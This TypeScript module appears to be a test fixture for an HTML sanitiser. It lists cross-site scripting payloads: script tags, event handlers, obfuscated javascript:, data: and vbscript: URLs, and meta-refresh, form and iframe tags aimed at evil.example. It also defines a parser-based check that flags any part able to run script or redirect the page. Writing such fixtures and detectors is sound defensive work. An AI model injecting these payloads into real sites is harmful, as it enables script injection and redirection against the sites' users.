/**
 * What an attacker puts in a review, a post or a content file to run script on the site, and a
 * check that finds anything in HTML that could still run or send the page elsewhere.
 */
import { Parser } from "htmlparser2";

/** As an HTML export holds them: a review's text escaped, and raw tags. Each would open a dialog if it ran. */
export const HOSTILE_HTML = [
  "&lt;script&gt;alert(document.domain)&lt;/script&gt;",
  "<script>alert(1)</script>",
  '<img src="x" onerror="alert(2)"> <div onmouseover="alert(3)">hover</div> <body onload="alert(4)">',
  '<a href="javascript:alert(5)">plain</a> <a href="JaVaScRiPt:alert(6)">mixed case</a>',
  '<a href="&#106;avascript:alert(7)">entities</a> <a href="java&#x09;script:alert(8)">split</a> <a href=" javascript:alert(9)">spaced</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMCk8L3NjcmlwdD4=">data</a> <a href="vbscript:msgbox(11)">vb</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEyKSIvPg==" alt="data image">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '&lt;meta http-equiv="refresh" content="0;url=https://evil.example/"&gt;',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name="q"><button>Send</button></form>',
  '<iframe src="https://evil.example/"></iframe><iframe src="https://www.youtube-nocookie.com/embed/x"></iframe>',
  '<svg><script>alert(13)</script></svg><svg onload="alert(14)"></svg>',
  "<style>body { display: none }</style>",
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  "[click](javascript:alert(15)) &lt;javascript:alert(16)&gt;",
];

/** As an owner's Markdown file could hold them, besides all of the HTML above. */
export const HOSTILE_MARKDOWN = [
  ...HOSTILE_HTML,
  "[a](javascript:alert(17)) [b](JAVASCRIPT:alert(18)) [c](&#106;avascript:alert(19)) <javascript:alert(20)>",
  "[d](data:text/html,%3Cscript%3Ealert(21)%3C/script%3E) ![e](data:image/png;base64,AAAA) [f](vbscript:msgbox(22))",
  '<a href="jav&#x0A;ascript:alert(23)">newline</a> <a href="&#x6A;&#x61;vascript&colon;alert(24)">hex</a>',
];

const RUNNING_TAGS = new Set(
  ["script", "style", "meta", "base", "link", "form", "input", "button", "textarea", "select"].concat([
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "svg",
    "math",
    "template",
    "noscript",
  ]),
);
const URL_ATTRIBUTES = new Set(["href", "src", "action", "formaction", "xlink:href", "data", "srcset", "poster"]);

// biome-ignore lint/suspicious/noControlCharactersInRegex: a browser skips these in a URL's scheme.
const schemeOf = (url: string) => /^([a-z][a-z0-9+.-]*):/i.exec(url.replace(/[\x00-\x20]+/g, ""))?.[1]?.toLowerCase();

/** Each element or attribute of `html` that could run script or move the page: none for safe HTML. */
export function runningParts(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser(
    {
      onopentag(name, attributes) {
        if (RUNNING_TAGS.has(name)) found.push(`<${name}>`);
        for (const [attribute, value] of Object.entries(attributes)) {
          if (attribute.startsWith("on")) found.push(`<${name} ${attribute}>`);
          const scheme = URL_ATTRIBUTES.has(attribute) ? schemeOf(value) : undefined;
          if (scheme && !["http", "https", "mailto"].includes(scheme)) found.push(`<${name} ${attribute}="${value}">`);
        }
      },
    },
    { decodeEntities: true },
  );
  parser.end(html);
  return found;
}
